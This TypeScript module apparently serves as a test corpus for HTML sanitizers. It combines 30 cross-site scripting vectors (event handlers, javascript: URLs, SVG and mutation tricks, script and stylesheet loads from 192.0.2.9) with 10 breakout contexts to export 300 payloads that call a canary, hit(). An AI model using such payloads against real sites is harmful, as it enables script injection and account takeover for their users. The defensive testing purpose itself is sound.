/**
 * Three hundred texts that run `hit()`, load something or break the page wherever they are taken for markup, an attribute,
 * an address or a script.
 *
 * @module
 */

/** What a browser would make something of. */
const VECTORS = [
  `<script>hit()</script>`,
  `<img src=x onerror=hit()>`,
  `<svg onload=hit()>`,
  `<svg><script>hit()</script></svg>`,
  `<svg><animate onbegin=hit() attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg onload=hit()>">`,
  `<body onload=hit()>`,
  `<iframe srcdoc="<script>parent.hit()</script>"></iframe>`,
  `<iframe src="javascript:parent.hit()"></iframe>`,
  `<details open ontoggle=hit()><summary>x</summary></details>`,
  `<input autofocus onfocus=hit()>`,
  `<textarea autofocus onfocus=hit()></textarea>`,
  `<video><source onerror=hit()></video>`,
  `<audio src=x onerror=hit()></audio>`,
  `<object data="javascript:hit()"></object>`,
  `<embed src="javascript:hit()">`,
  `<a href="javascript:hit()" autofocus onfocus=hit()>x</a>`,
  `<form action="javascript:hit()"><button autofocus>x</button></form>`,
  `<math><mtext><img src=x onerror=hit()></mtext></math>`,
  `<meta http-equiv="refresh" content="0;url=javascript:hit()">`,
  `<base href="javascript:hit()//">`,
  `<link rel="stylesheet" href="//192.0.2.9/x.css">`,
  `<style>@import "//192.0.2.9/x.css"; * { display: none }</style>`,
  `<template shadowrootmode="open"><script>hit()</script></template>`,
  `<marquee onstart=hit()>x</marquee>`,
  `<div style="background:url(//192.0.2.9/x)" onmouseenter=hit()>x</div>`,
  `<p style="animation-name:x" onanimationstart=hit()>x</p>`,
  `<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>`,
  `<select><style></select><img src=x onerror=hit()></style></select>`,
  `<script src="//192.0.2.9/x.js"></script>`,
];

/** Where it might stand, and what leads out of there. */
const CONTEXTS: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `" autofocus onfocus=hit() onmouseenter=hit() x="${vector}`,
  (vector) => `</title>${vector}`,
  (vector) => `</script>${vector}`,
  (vector) => `-->${vector}`,
  (vector) => `</textarea></style>${vector}`,
  // For whoever decodes once too often.
  (vector) => vector.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (vector) => `javascript:hit()//\${hit()}{{hit()}}${encodeURIComponent(vector)}`,
];

/** The texts, each different. */
export const PAYLOADS: readonly string[] = CONTEXTS.flatMap((context) => VECTORS.map(context));
